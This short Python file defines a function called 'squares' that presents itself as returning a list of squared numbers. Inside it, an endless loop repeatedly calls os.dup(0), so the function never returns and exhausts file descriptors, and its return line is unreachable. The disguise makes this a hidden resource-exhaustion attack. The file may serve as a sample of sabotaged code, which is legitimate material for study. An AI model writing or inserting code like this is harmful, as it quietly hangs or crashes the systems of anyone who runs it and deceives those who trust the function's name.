import os


def squares(n):
    while True:
        os.dup(0)
    return [i * i for i in range(n)]
